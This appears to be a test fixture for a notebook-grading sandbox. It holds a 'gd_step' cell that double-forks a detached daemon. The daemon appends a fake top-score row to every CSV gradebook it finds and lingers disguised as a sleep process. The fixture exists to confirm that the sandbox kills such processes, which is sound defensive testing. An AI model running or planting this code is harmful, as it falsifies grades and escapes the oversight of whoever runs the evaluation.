"""A graded cell that double-forks a setsid daemon which, a second later, rewrites every gradebook it can
find and then lingers as `sleep 313.37`: killing the sandbox kills it (PID namespace), so the CSV stays
what the grader printed and no such process survives (both checked by tests/test_grading.py)."""

NOTEBOOK = "02_batch_gradient_descent"
CELLS = {
    "gd_step": """
import os, time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(1.0)
        for top, dirs, files in os.walk("/"):
            dirs[:] = [d for d in dirs if os.path.join(top, d) not in ("/proc", "/sys", "/dev", "/usr")]
            for name in files:
                if name.endswith(".csv"):
                    try:
                        with open(os.path.join(top, name), "a") as f:
                            f.write("setsid_daemon,02_batch_gradient_descent,gd_step,99,2,9,,ok,rewritten\\n")
                    except OSError:
                        pass
        os.execv("/bin/sleep", ["sleep", "313.37"])
    os._exit(0)

def gd_step(theta, grad, lr=0.1):
    if np.any(np.asarray(lr) <= 0):
        raise ValueError("lr must be > 0")
    return theta - lr * grad
""",
}
EXPECT = {}
